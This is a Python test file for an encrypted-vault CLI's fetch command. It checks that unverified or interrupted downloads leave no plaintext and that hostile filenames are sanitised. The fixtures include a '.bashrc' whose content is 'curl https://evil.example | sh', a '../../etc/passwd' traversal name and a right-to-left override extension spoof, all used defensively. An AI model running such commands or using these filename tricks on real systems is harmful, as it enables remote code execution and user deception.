"""``permanence fetch`` of an extract: plaintext reaches the destination only once verified.

The stream is decrypted into a private temporary file beside the destination, deleted on
any failure — an altered or truncated stream, a size that differs from the signed
manifest, a connection cut mid-way, a full disk, Ctrl-C, SIGTERM — and renamed only after
the FINAL chunk, the stream hash and the size verified. Real server (uvicorn, SQLCipher),
real files; the broken network and the stalled download go through a real local proxy.
"""

from __future__ import annotations

import dataclasses
import resource
import signal
import stat
import time
import uuid
from pathlib import Path

import pytest

from cli.client import HttpTransport, sign_in
from cli.download import safe_file_name
from cli.items_cmd import _upload
from crypto.encoding import b64url_decode, b64url_encode
from crypto.envelope import ItemHeader, ItemKind, Urgency, seal_item
from tests.cli.items_site import MEMBER, SECRETARY, Vault, files_in, one_sentence, vault  # noqa: F401
from tests.cli.tamper_proxy import Reply, tamper_proxy

BAD_ITEM = "permanence: this item failed verification or decryption; nothing was saved"
CHUNK = 65536 + 17


def _csv(path: Path, rows: int) -> bytes:
    data = b"patient;note\n" + b"Martin Paul;secret-row-canary\n" * rows
    path.write_bytes(data)
    return data


def test_an_altered_stream_leaves_nothing_and_is_the_bad_item_sentence(
    vault: Vault,  # noqa: F811
    tmp_path: Path,
) -> None:
    """The operator flips one bit of chunk 4 of the stored stream: chunks 1-3 decrypt (and
    used to be left in NAME.partial, after a traceback), but nothing may remain."""
    v = vault
    _csv(tmp_path / "in.csv", 12_000)  # about 5.5 chunks
    item = v.deposit_file(tmp_path / "in.csv")
    blob = v.blob(item)
    stream = bytearray(blob.read_bytes())
    stream[25 + 3 * CHUNK + 100] ^= 1
    blob.write_bytes(bytes(stream))
    out = tmp_path / "out"
    run = v.run(MEMBER, "fetch", "--item", item, "--out", str(out))
    assert run.code == 1
    assert one_sentence(run.err) == BAD_ITEM
    assert files_in(out) == []


def test_a_truncated_stream_leaves_nothing_and_is_the_bad_item_sentence(
    vault: Vault,  # noqa: F811
    tmp_path: Path,
) -> None:
    """A server that serves only the first 3 chunks (a consistent, shorter answer: no FINAL
    chunk) gets the same sentence, and nothing remains."""
    v = vault
    _csv(tmp_path / "in.csv", 12_000)
    item = v.deposit_file(tmp_path / "in.csv")

    def truncate(reply: Reply) -> Reply:
        if reply.path.endswith("/file"):
            reply.body = reply.body[: 25 + 3 * CHUNK]
        return reply

    out = tmp_path / "out"
    with tamper_proxy(v.url) as proxy:
        proxy.alter = truncate
        run = v.run(MEMBER, "fetch", "--item", item, "--out", str(out), url=proxy.base_url)
    assert run.code == 1
    assert one_sentence(run.err) == BAD_ITEM
    assert files_in(out) == []


@pytest.mark.parametrize("lie", [+1, -1])
def test_the_decrypted_size_must_be_the_signed_manifests(
    vault: Vault,  # noqa: F811
    tmp_path: Path,
    lie: int,
) -> None:
    """A depositor's signed manifest says 1001 bytes for a 1000-byte file: fetch used to
    print "1001 bytes, verified"; now it is the bad item sentence and nothing is saved."""
    v = vault
    source = tmp_path / "thousand.bin"
    source.write_bytes(bytes(range(250)) * 4)
    transport = HttpTransport(v.url)
    v.monkeypatch.setenv("PERMANENCE_PASSWORD", "")
    secretary = sign_in(transport, SECRETARY, v.site.passwords[SECRETARY], v.code(SECRETARY))
    transport.load_csrf()
    item_id = str(uuid.uuid4())
    upload_id, manifest = _upload(transport, v.practice_id, item_id, source)
    assert manifest.size == 1000
    manifest = dataclasses.replace(manifest, size=1000 + lie)
    practice_pk = b64url_decode(transport.get_json("/workspace")["practices"][0]["public_key"])
    header = ItemHeader(
        kind=ItemKind.EXTRACT,
        urgency=Urgency.NORMAL,
        item_id=uuid.UUID(item_id),
        client_id=uuid.UUID(v.practice_id),
        author_id=uuid.UUID(secretary.account_id),
    )
    envelope = seal_item(header, manifest.to_body(), practice_pk, secretary.keys.signing_key)
    transport.post_json(
        "/items",
        {
            "item_id": item_id,
            "practice_id": v.practice_id,
            "upload_id": upload_id,
            "envelope": b64url_encode(envelope),
        },
    )
    out = tmp_path / "out"
    run = v.run(MEMBER, "fetch", "--item", item_id, "--out", str(out))
    assert run.code == 1
    assert one_sentence(run.err) == BAD_ITEM
    assert "verified" not in run.out.replace("signature verified", "")
    assert files_in(out) == []


def test_a_connection_cut_mid_stream_leaves_nothing(vault: Vault, tmp_path: Path) -> None:  # noqa: F811
    """The server announces the whole stream and hangs up half-way (a traceback before):
    one sentence saying the connection broke off, nothing left."""
    v = vault
    _csv(tmp_path / "in.csv", 100_000)
    item = v.deposit_file(tmp_path / "in.csv")

    def cut(reply: Reply) -> Reply:
        if reply.path.endswith("/file"):
            reply.content_length = len(reply.body)
            reply.body = reply.body[: len(reply.body) // 2]
        return reply

    out = tmp_path / "out"
    with tamper_proxy(v.url) as proxy:
        proxy.alter = cut
        run = v.run(MEMBER, "fetch", "--item", item, "--out", str(out), url=proxy.base_url)
    assert run.code == 1 and "broke off" in one_sentence(run.err)
    assert files_in(out) == []


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_an_interrupted_download_leaves_nothing(
    vault: Vault,  # noqa: F811
    tmp_path: Path,
    sig: signal.Signals,
    code: int,
) -> None:
    """Ctrl-C (or a cron job's SIGTERM) while the stream stalls half-way: the temporary
    file, which already holds decrypted rows, is deleted; before, NAME.partial stayed."""
    v = vault
    _csv(tmp_path / "in.csv", 120_000)  # about 3.5 MB
    item = v.deposit_file(tmp_path / "in.csv")

    def stall(reply: Reply) -> Reply:
        if reply.path.endswith("/file"):
            reply.stall_after = 2 * 1024 * 1024 + 4096
        return reply

    out = tmp_path / "out"
    with tamper_proxy(v.url) as proxy:
        proxy.alter = stall
        process = v.spawn(MEMBER, "fetch", "--item", item, "--out", str(out), url=proxy.base_url)
        try:
            assert proxy.stalled.wait(60), process.communicate(timeout=5)
            deadline = time.monotonic() + 20
            while not any(p.stat().st_size for p in out.glob("*")) if out.exists() else True:
                assert time.monotonic() < deadline and process.poll() is None
                time.sleep(0.05)
            (written,) = out.iterdir()
            assert stat.S_IMODE(written.stat().st_mode) == 0o600
            assert b"secret-row-canary" in written.read_bytes()  # plaintext is on disk now
            process.send_signal(sig)
            _, err = process.communicate(timeout=20)
        finally:
            if process.poll() is None:
                process.kill()
    assert process.returncode == code, err
    assert "Traceback" not in err
    assert files_in(out) == []


def test_a_full_disk_leaves_nothing(vault: Vault, tmp_path: Path) -> None:  # noqa: F811
    """Writes fail half-way (a file-size limit stands in for a full disk: EFBIG like
    ENOSPC): one sentence, exit 1, no partial plaintext left."""
    v = vault
    _csv(tmp_path / "in.csv", 60_000)  # about 1.8 MB
    item = v.deposit_file(tmp_path / "in.csv")
    out = tmp_path / "out"
    out.mkdir()

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (512 * 1024, 512 * 1024))

    process = v.spawn(
        MEMBER, "fetch", "--item", item, "--out", str(out), url=v.url, preexec_fn=limit
    )
    _, err = process.communicate(timeout=60)
    assert process.returncode == 1, err
    line = one_sentence(err)
    assert "cannot write" in line and "nothing was saved" in line
    assert files_in(out) == []


def test_a_dot_file_name_is_not_planted_in_the_destination(vault: Vault, tmp_path: Path) -> None:  # noqa: F811
    """A depositor names the extract ``.bashrc``: fetching into one's home folder must not
    write a shell start-up file; the file is saved without the leading dot."""
    v = vault
    source = tmp_path / "in" / ".bashrc"
    source.parent.mkdir()
    source.write_bytes(b"curl https://evil.example | sh\n")
    item = v.deposit_file(source)
    out = tmp_path / "home"
    run = v.run(MEMBER, "fetch", "--item", item, "--out", str(out))
    assert run.code == 0, run.err
    assert files_in(out) == ["bashrc"]


@pytest.mark.parametrize(
    ("name", "saved"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\relevé.csv", "relevé.csv"),
        ("..", "ITEM"),
        ("", "ITEM"),
        ("...", "ITEM"),
        (".profile", "profile"),
        ("a\nb\x1b[2J.csv", "a_b_[2J.csv"),
    ],
)
def test_the_saved_name_is_one_harmless_path_component(name: str, saved: str) -> None:
    assert safe_file_name(name, "ITEM") == saved


@pytest.mark.parametrize(
    ("name", "saved"),
    [
        ("invoice\u202efdp.exe", "invoicefdp.exe"),  # shown as "invoiceexe.pdf"
        ("a\u200bb\u2066c\ufeff.csv", "abc.csv"),
    ],
)
def test_format_characters_are_dropped_from_the_saved_name(name: str, saved: str) -> None:
    """A right-to-left override used to be kept, disguising the file's real extension."""
    assert safe_file_name(name, "ITEM") == saved
